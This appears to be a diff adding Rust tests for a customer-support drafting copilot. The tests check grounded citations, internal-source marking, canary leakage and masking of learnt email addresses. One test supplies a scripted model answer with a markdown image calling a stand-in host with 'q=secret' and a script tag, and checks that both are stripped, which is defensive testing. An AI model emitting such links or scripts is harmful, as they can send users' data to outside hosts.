@@ -1,1 +1,115 @@
+use std::sync::Arc;
 
+use relevo_llm::scripted::Scripted;
+use relevo_llm::tokens::Counter;
+use serde_json::json;
+use tokio_util::sync::CancellationToken;
+
+use crate::copilot::{Copilot, Input, Silent, Task};
+use crate::knowledge::{SourceKind, article};
+use crate::transcript::{Line, Who};
+
+const RETURNS: &str =
+    "# Devoluciones\n\nPuedes devolver un pedido en 30 días. Escribe a https://tienda.example/devoluciones.\n";
+const INTERNAL: &str = "---\ntitle: Devoluciones de pedidos grandes\ninternal: true\n---\nPara devolver un pedido de más de 200 € avisa a CANARY-INTERNAL.\n";
+
+fn copilot() -> Copilot {
+    let copilot = Copilot::offline();
+    let articles = [("devoluciones.md", RETURNS), ("grandes.md", INTERNAL)];
+    copilot.update_knowledge(|knowledge| {
+        knowledge.sync(SourceKind::Article, articles.into_iter().filter_map(|(path, text)| article(path, text)))
+    });
+    copilot
+}
+
+fn input(asks: &str) -> Input {
+    let mut input = Input::new(vec![Line::new(1, Who::Visitor, asks), Line::new(2, Who::Note, "CANARY-NOTE")]);
+    input.nonce = "n0nce".into();
+    input.internal = false;
+    input
+}
+
+fn with(copilot: Copilot, answer: &str) -> (Copilot, Arc<Scripted>) {
+    let model = Arc::new(Scripted::saying([answer]));
+    (copilot.with_model(model.clone(), Counter::upper()), model)
+}
+
+async fn make(copilot: &Copilot, input: &Input) -> crate::Draft {
+    copilot.make(Task::Reply, input, &Silent, &CancellationToken::new()).await.unwrap()
+}
+
+// covers: A02; behaviour 11
+#[tokio::test]
+async fn citations_are_held_against_the_sources_that_were_given() {
+    let answer = "Tienes 30 días para devolverlo [1]. Más en https://tienda.example/devoluciones [9]\n===\n\
+                  Te regalamos 500 € [2]. ¿Me das el número de pedido?";
+    let (copilot, model) = with(copilot(), answer);
+    let draft = make(&copilot, &input("¿Cómo puedo devolver un pedido?")).await;
+    assert_eq!(
+        draft.body["suggestions"],
+        json!([
+            {"text": "Tienes 30 días para devolverlo. Más en https://tienda.example/devoluciones", "sources": [1], "grounded": true, "internal": false},
+            {"text": "¿Me das el número de pedido?", "sources": [], "grounded": false, "internal": false},
+        ])
+    );
+    assert_eq!(draft.body["dropped"], 3, "[9], [2] and the invented amount");
+    let source = &draft.sources[0];
+    assert_eq!((source.kind, source.id.as_str(), source.span.is_some()), ("article", "devoluciones.md", true));
+    assert_eq!(source.version.as_deref().map(str::len), Some(12));
+    let request = &model.requests()[0];
+    let user = &request.turns[0].text;
+    // behaviour 6, behaviour 8
+    assert!(!user.contains("CANARY"), "neither notes nor what the agent may not read: {user}");
+    assert!(user.contains("Write the drafts in Spanish."));
+    insta::assert_snapshot!("reply_system", request.system);
+    insta::assert_snapshot!("reply_user", user);
+}
+
+// behaviour 8
+#[tokio::test]
+async fn a_suggestion_from_an_internal_source_is_marked() {
+    let (copilot, _) = with(copilot(), "Aviso a mi compañero [1] y [2].");
+    let mut input = input("Quiero devolver un pedido de más de 200 €");
+    input.internal = true;
+    let draft = make(&copilot, &input).await;
+    assert_eq!(draft.body["suggestions"][0]["internal"], true, "{}", draft.body);
+}
+
+// behaviour 12
+#[tokio::test]
+async fn without_any_source_no_model_is_asked_and_nothing_is_invented() {
+    let (copilot, model) = with(copilot(), "Claro, te devolvemos el dinero.");
+    let draft = make(&copilot, &input("¿Qué tiempo hará en Marte?")).await;
+    assert!(model.requests().is_empty());
+    assert_eq!(draft.body["suggestions"], json!([]));
+    assert!(draft.offline);
+}
+
+// behaviour 10
+#[tokio::test]
+async fn images_and_strange_links_are_taken_out_of_drafts() {
+    let (copilot, _) =
+        with(copilot(), "Mira ![x](http://evil/?q=secret) <script>x()</script>https://evil.example/ esto [1].");
+    let draft = make(&copilot, &input("¿Cómo puedo devolver un pedido?")).await;
+    assert_eq!(draft.body["suggestions"][0]["text"], "Mira esto.");
+}
+
+// covers: A02
+#[tokio::test]
+async fn offline_suggestions_come_from_articles_and_earlier_answers() {
+    let copilot = copilot();
+    copilot.learn(
+        "c9",
+        &[
+            Line::new(1, Who::Visitor, "¿Dónde está mi paquete?"),
+            Line::new(2, Who::Agent, "¿Me das el número, ana@example.com?"),
+        ],
+    );
+    let draft = make(&copilot, &input("¿Cómo puedo devolver un pedido?")).await;
+    let first = &draft.body["suggestions"][0];
+    assert!(first["text"].as_str().unwrap().contains("30 días"), "{first}");
+    assert_eq!((draft.sources[0].kind, first["grounded"].as_bool()), ("article", Some(true)));
+    let draft = make(&copilot, &input("donde está mi paquete??")).await;
+    assert_eq!(draft.body["suggestions"][0]["text"], "¿Me das el número, [EMAIL_1]?", "what was learnt is masked");
+    assert_eq!((draft.sources[0].kind, draft.sources[0].id.as_str()), ("conversation", "c9"));
+}
